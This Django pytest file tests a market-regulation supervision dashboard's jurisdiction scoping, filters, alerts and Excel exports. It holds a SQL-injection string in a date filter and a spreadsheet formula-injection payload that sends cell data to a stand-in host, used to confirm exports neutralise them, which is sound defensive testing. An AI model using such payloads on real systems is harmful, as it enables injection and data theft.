"""The dashboard and its lists: figures of the supervisor's jurisdiction only, drill-down filters, Excel exports, and
bad input answered in Chinese with an empty result (never a server error, never another jurisdiction's data)."""

import copy
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from yuezhifa.cases.models import Case
from yuezhifa.cases.tests.conftest import Runner, make_world
from yuezhifa.core.actors import SYSTEM  # noqa: F401

from ..alerts import evaluate_alerts
from ..dashboard import refresh_stats
from ..models import Alert
from .conftest import D, decided, make_people

pytestmark = pytest.mark.django_db


@pytest.fixture(scope="module")
def _shared(shared_atomic):
    """The world, the supervision people and the cases, built once for this module's tests (each of which uses them)
    and rolled back after them (root conftest: ``shared_atomic``); each test gets its own copies."""
    with shared_atomic():
        world = make_world()
        people = make_people(world)
        run = Runner(world)
        case = decided(run)
        run.case = None
        run.open("2026-09-28 09:00")
        evaluate_alerts(on=D(2026, 10, 28))
        refresh_stats()
        yield world, people, {"decided": case, "source": run.case}


@pytest.fixture
def world(_shared, db):
    return copy.deepcopy(_shared[0])


@pytest.fixture
def people(_shared, db):
    return copy.deepcopy(_shared[1])


@pytest.fixture
def cases(_shared, db):
    return copy.deepcopy(_shared[2])


def test_dashboard_of_the_jurisdiction(cases, people, client):
    client.force_login(people["gz_sup"])
    response = client.get(reverse("supervision:dashboard"))
    assert response.status_code == 200
    page = response.content.decode()
    assert "广州市天河区市场监督管理局" in page and "共 2 件" in page
    assert "echarts.min.js" in page and 'id="chart-data"' in page
    assert "公示及时性（行政处罚决定 7 个工作日内公示）" in page  # the decided case's disclosure.publish deadline
    assert "有案不立" in page and "天河区" in page
    # the other jurisdiction sees nothing of 广州
    client.force_login(people["sz_sup"])
    page = client.get(reverse("supervision:dashboard")).content.decode()
    assert "广州市天河区市场监督管理局" not in page and "共 0 件" in page
    assert client.get(reverse("supervision:cases")).content.decode().count("穗天市监") == 0
    assert Alert.objects.restrict(people["sz_sup"]).count() == 0
    assert Alert.objects.restrict(people["gz_sup"]).count() == Alert.objects.count() > 0


def test_drill_down_and_exports(cases, people, client):
    client.force_login(people["gz_sup"])
    page = client.get(reverse("supervision:cases") + "?stage=decided").content.decode()
    assert cases["decided"].number in page and "申请查阅" in page and "经营超过保质期的食品" in page
    page = client.get(reverse("supervision:cases") + "?stage=source").content.decode()
    assert "未决定，不能查阅" in page
    response = client.get(reverse("supervision:cases") + "?stage=decided&export=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["A1"].value == "案号" and sheet["A2"].value == cases["decided"].number
    for key in ("procedure", "stage", "body", "division", "month", "alerts", "durations", "benchmark", "all"):
        response = client.get(reverse("supervision:dashboard") + f"?export={key}")
        assert response.status_code == 200 and response["Content-Type"].startswith("application/vnd.openxml"), key
    book = load_workbook(io.BytesIO(client.get(reverse("supervision:dashboard") + "?export=all").content))
    assert len(book.sheetnames) >= 8
    response = client.get(reverse("supervision:alerts") + "?problem=not_filed&export=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["A2"].value == "有案不立"


@pytest.mark.parametrize("query, message", [
    ("from=2026-13-45", "格式不正确"),
    ("from=2026-13", "格式不正确"),
    ("from=0001-01-01", "超出可查询的范围"),
    ("to=9999-12-31", "超出可查询的范围"),
    ("from=2026-12-01&to=2026-01-01", "开始日期不能晚于结束日期"),
    ("from=' OR 1=1 --", "格式不正确"),
])
def test_absurd_periods_answer_in_chinese_with_an_empty_result(cases, people, client, query, message):
    client.force_login(people["gz_sup"])
    for name in ("supervision:dashboard", "supervision:cases"):
        response = client.get(reverse(name) + "?" + query)
        assert response.status_code == 200
        page = response.content.decode()
        assert message in page and cases["decided"].number not in page


@pytest.mark.parametrize("query", ["stage=nonsense", "body=not-a-uuid", "division=44'", "month=2026-99",
                                   "procedure=x", "page=999999"])
def test_bad_filters_on_the_case_list(cases, people, client, query):
    client.force_login(people["gz_sup"])
    response = client.get(reverse("supervision:cases") + "?" + query)
    assert response.status_code == 200
    if not query.startswith("page"):
        assert cases["decided"].number not in response.content.decode()


def test_another_jurisdictions_body_filter_gives_nothing(cases, people, client):
    client.force_login(people["sz_sup"])
    body = cases["decided"].body_id
    page = client.get(reverse("supervision:cases") + f"?body={body}").content.decode()
    assert cases["decided"].number not in page
    page = client.get(reverse("supervision:alerts") + f"?body={body}").content.decode()
    assert "没有符合条件的预警" in page


def test_body_sees_and_explains_its_alerts(cases, people, client, run):
    alert = Alert.objects.get(rule="filing_overdue")
    client.force_login(run.world["users"]["other"])  # 深圳 officer: not theirs
    assert client.get(reverse("supervision:alert", args=[alert.pk])).status_code == 404
    client.force_login(run.world["users"]["head"])
    assert "有案不立" in client.get(reverse("supervision:alerts")).content.decode()
    assert client.get(reverse("supervision:dashboard")).status_code == 404  # statistics are the supervisors'
    response = client.post(reverse("supervision:alert", args=[alert.pk]), {"explanation": "正在核查当事人下落。"})
    assert response.status_code == 302
    alert.refresh_from_db()
    assert alert.state == "explained" and alert.explained_by == run.world["users"]["head"]
    client.force_login(people["gz_sup"])
    response = client.post(reverse("supervision:alert", args=[alert.pk]), {"explanation": "监督人员写的。"})
    assert response.status_code == 403
    assert client.get(reverse("supervision:alert", args=[alert.pk])).status_code == 200


def test_section_index_routes_by_role(cases, people, client, run):
    client.force_login(people["gz_sup"])
    assert client.get("/supervision/")["Location"].endswith("/supervision/dashboard/")
    client.force_login(run.world["users"]["chen"])
    assert client.get("/supervision/")["Location"].endswith("/supervision/alerts/")
    assert Case.objects.exists()


def test_exported_text_that_looks_like_a_formula_is_written_as_text(cases, people, client):
    """A case's cause is typed by an officer; in the supervisor's export it must not become a live formula."""
    import zipfile

    cause = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    Case.objects.filter(pk=cases["decided"].pk).update(cause=cause)
    client.force_login(people["gz_sup"])
    response = client.get(reverse("supervision:cases") + "?stage=decided&export=xlsx")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(response.content)).active
    found = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == cause]
    assert found and all(c.data_type == "s" for c in found)
